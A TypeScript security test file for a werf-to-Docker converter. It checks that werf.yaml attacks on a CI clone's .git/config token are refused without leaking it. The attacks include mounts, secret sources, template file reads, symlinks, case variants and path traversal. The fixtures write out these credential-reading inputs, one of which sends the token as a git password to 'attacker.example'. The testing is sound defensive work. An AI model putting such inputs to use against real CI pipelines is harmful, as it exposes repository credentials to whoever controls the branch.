// The work tree's git directory is not project content: a CI clone keeps its token in `.git/config`
// (`https://gitlab-ci-token:TOKEN@host/...`), and every place that reads the work tree could hand it to the build.
// Each attack below comes from a branch author who can write werf.yaml and werf-giterminism.yaml; each must be
// refused, located, without the token in the message or in any output.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { UserError } from "../../src/diagnostics.js";
import { loadWerfConfig } from "../../src/config/index.js";
import { checkHostPaths } from "../../src/config/giterminism.js";
import { ProjectFiles, ProjectPathError } from "../../src/project/files.js";
import { renderWerfConfig } from "../../src/template/render.js";
import { commitAll, git, tempDir, writeFile } from "../git/gitFixture.js";
import { repoRoot } from "../support/paths.js";

const cli = path.join(repoRoot, "dist", "src", "cli", "main.js");
const TOKEN = "glpat-S2D-DO-NOT-LEAK";

/** A committed project whose clone has a token in .git/config, as a CI checkout has. */
function ciCheckout(werfYaml: string, files: Record<string, string> = {}, links: Record<string, string> = {}): string {
  const dir = tempDir("sec-gitdir");
  git(dir, "init", "-q", "-b", "main");
  git(dir, "remote", "add", "origin", `https://gitlab-ci-token:${TOKEN}@gitlab.example/group/p.git`);
  writeFile(dir, "werf.yaml", werfYaml);
  for (const [rel, content] of Object.entries(files)) writeFile(dir, rel, content);
  for (const [rel, target] of Object.entries(links)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.symlinkSync(target, path.join(dir, rel));
  }
  commitAll(dir, "init");
  return dir;
}

const HEAD = "project: p\nconfigVersion: 1\n---\nimage: app\nfrom: alpine\n";

async function hostPathErrors(dir: string, giterminismConfig?: string): Promise<string[]> {
  const rendered = await renderWerfConfig({ dir, environ: {}, ...(giterminismConfig ? { giterminismConfig } : {}) });
  try {
    checkHostPaths(loadWerfConfig(rendered), new ProjectFiles(dir), rendered.giterminism);
    return [];
  } catch (e) {
    assert.ok(e instanceof UserError);
    for (const d of e.diagnostics) assert.ok(!d.message.includes(TOKEN) && !(d.hint ?? "").includes(TOKEN));
    return e.diagnostics.map((d) => `${d.pos?.line}:${d.pos?.col} ${d.message}`);
  }
}

test("mount fromPath: .git, a folder holding it, a link to it or into it is refused (inside the project or not)", async () => {
  const dir = ciCheckout(
    HEAD +
      "mount:\n" +
      "- fromPath: .git\n  to: /a\n" +
      "- fromPath: .\n  to: /b\n" +
      "- fromPath: g\n  to: /c\n" +
      "- fromPath: sub/../.git/logs\n  to: /d\n" +
      "- fromPath: .GIT\n  to: /e\n" +
      "- fromPath: cache\n  to: /f\n",
    { "cache/.keep": "" },
    { g: ".git" },
  );
  const why = "reaches the repository's git directory (.git), which holds the clone's credentials, not project files";
  assert.deepEqual(await hostPathErrors(dir), [
    `7:3 "mount { fromPath: .git, ... }" ${why}`,
    `9:3 "mount { fromPath: ., ... }" ${why}`,
    `11:3 "mount { fromPath: g, ... }" ${why}`,
    `13:3 "mount { fromPath: sub/../.git/logs, ... }" ${why}`,
    `15:3 "mount { fromPath: .GIT, ... }" ${why}`,
  ]);
});

test("a mount reaching .git is allowed only by the operator's giterminism file (--giterminism-config), never by the project's", async () => {
  const allow = "giterminismConfigVersion: 1\nconfig:\n  stapel:\n    mount:\n      allowFromPaths: [./]\n";
  const dir = ciCheckout(HEAD + "mount:\n- fromPath: ./\n  to: /a\n- fromPath: .git\n  to: /b\n", { "werf-giterminism.yaml": allow });
  const why = "reaches the repository's git directory (.git), which holds the clone's credentials, not project files";
  // the branch's own werf-giterminism.yaml allows ./: still refused
  assert.deepEqual(await hostPathErrors(dir), [`7:3 "mount { fromPath: ./, ... }" ${why}`, `9:3 "mount { fromPath: .git, ... }" ${why}`]);
  // the same allow-list in the operator's file: ./ passes (as werf passes any allowed fromPath), .git stays refused
  const operator = path.join(tempDir("sec-gitdir-operator"), "giterminism.yaml");
  fs.writeFileSync(operator, allow);
  assert.deepEqual(await hostPathErrors(dir, operator), [`9:3 "mount { fromPath: .git, ... }" ${why}`]);
});

test("a project in a subfolder: mounting the project is fine, the repository's .git is outside it", async () => {
  const dir = ciCheckout("x: 1\n", { "app/werf.yaml": HEAD + "mount:\n- fromPath: .\n  to: /b\n" });
  assert.deepEqual(await hostPathErrors(path.join(dir, "app")), []);
});

test("secret src and basicAuth.password.src naming .git/config (as written or through a link) are refused", async () => {
  const dir = ciCheckout(
    HEAD +
      "secrets:\n- id: a\n  src: .git/config\n- id: b\n  src: cfg\n- id: c\n  src: ok.txt\n" +
      "git:\n- url: https://attacker.example/x.git\n  tag: v1\n  to: /x\n  basicAuth:\n    username: u\n    password: {src: .git/config}\n",
    { "ok.txt": "fine" },
    { cfg: ".git/config" },
  );
  const why = "reaches the repository's git directory (.git), which holds the clone's credentials, not project files";
  assert.deepEqual(await hostPathErrors(dir), [
    `14:3 basicAuth.password.src ".git/config" ${why}`,
    `7:3 secret src ".git/config" ${why}`,
    `9:3 secret src "cfg" ${why}`,
  ]);
});

test(".Files.Get of .git/config is refused even when the branch's giterminism file accepts every uncommitted file", async () => {
  for (const [expr, pattern] of [
    ['.Files.Get ".git/config"', /"\.git\/config" lies in a git directory/],
    ['.Files.Get "/.git/config"', /lies in a git directory/],
    ['.Files.Get "x/../.git/config"', /lies in a git directory/],
    ['.Files.Get "link/config"', /lies in a git directory/],
  ] as const) {
    const dir = ciCheckout(`a: "{{ ${expr} }}"\n`, {
      "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  goTemplateRendering:\n    allowUncommittedFiles: ['**/*', '.git', '.git/*', 'link/*']\n",
    }, { link: ".git" });
    await assert.rejects(renderWerfConfig({ dir, environ: {} }), (e: unknown) => {
      assert.ok(e instanceof Error);
      assert.ok(!e.message.includes(TOKEN), `leaks the token: ${e.message}`);
      assert.match(e.message, pattern);
      assert.match(e.message, /^werf\.yaml:1:/);
      return true;
    });
  }
  const dir = ciCheckout('a: "{{ .Files.Exists ".git/config" }} {{ .Files.Glob ".git/**" | len }}"\n', {
    "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  goTemplateRendering:\n    allowUncommittedFiles: ['**/*', '.git/**']\n",
  });
  assert.equal((await renderWerfConfig({ dir, environ: {} })).text, 'a: "false 0"\n');
});

test("the project reader refuses a .git component in any case, written or reached through a link", () => {
  const dir = ciCheckout("x: 1\n", { "dir/f": "1" }, { g: ".git", "dir/up": "../.git/config" });
  const files = new ProjectFiles(dir);
  for (const rel of [".git/config", ".GIT/config", "g/config", "dir/up", "./dir/../.git/HEAD"]) {
    assert.throws(() => files.resolve(rel), (e: unknown) => e instanceof ProjectPathError && e.problem === "git-dir", rel);
    assert.equal(files.tryResolve(rel), undefined);
  }
  assert.equal(files.readFile("dir/f").toString(), "1");
});

test("contextAddFiles naming .git/config is a located error and nothing of .git reaches the output", () => {
  const dir = ciCheckout(
    "project: p\nconfigVersion: 1\n---\nimage: web\ndockerfile: Dockerfile\ncontextAddFiles: [.git/config]\n",
    { Dockerfile: "FROM scratch\nCOPY .git/config /x\n", "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  dockerfile:\n    allowContextAddFiles: [.git/config]\n" },
  );
  const out = path.join(tempDir("sec-gitdir-out"), "o");
  const r = spawnSync(process.execPath, [cli, "compile", "--dir", dir, "--out", out], { encoding: "utf8", env: { ...process.env, STAPEL2DOCKER_CACHE: "off" } });
  assert.equal(r.status, 1, r.stderr);
  assert.ok(!r.stderr.includes(TOKEN) && !r.stdout.includes(TOKEN));
  assert.match(r.stderr, /^werf\.yaml:4:1: .*"\.git\/config".*git directory/m);
  assert.ok(!fs.existsSync(out), "no output is written");
});

test("contextAddFiles of a folder copies its files but not a nested clone's .git (its credentials)", () => {
  const dir = ciCheckout(
    "project: p\nconfigVersion: 1\n---\nimage: web\ndockerfile: Dockerfile\ncontextAddFiles: [vendor]\n",
    { Dockerfile: "FROM scratch\nCOPY vendor /v\n", "werf-giterminism.yaml": "giterminismConfigVersion: 1\nconfig:\n  dockerfile:\n    allowContextAddFiles: [vendor]\n" },
  );
  // a clone the CI job made in the work tree (untracked), with a token in its .git/config
  writeFile(dir, "vendor/other/lib.txt", "lib\n");
  writeFile(dir, "vendor/other/.git/config", `[remote "origin"]\n\turl = https://x:${TOKEN}@gitlab.example/o.git\n`);
  const out = path.join(tempDir("sec-gitdir-out"), "o");
  const r = spawnSync(process.execPath, [cli, "compile", "--dir", dir, "--out", out], { encoding: "utf8", env: { ...process.env, STAPEL2DOCKER_CACHE: "off" } });
  assert.equal(r.status, 0, r.stderr);
  const ctx = path.join(out, "dockerfile-context", fs.readdirSync(path.join(out, "dockerfile-context"))[0]!);
  assert.equal(fs.readFileSync(path.join(ctx, "vendor/other/lib.txt"), "utf8"), "lib\n");
  assert.ok(!fs.existsSync(path.join(ctx, "vendor/other/.git")), "the nested .git is not copied");
});
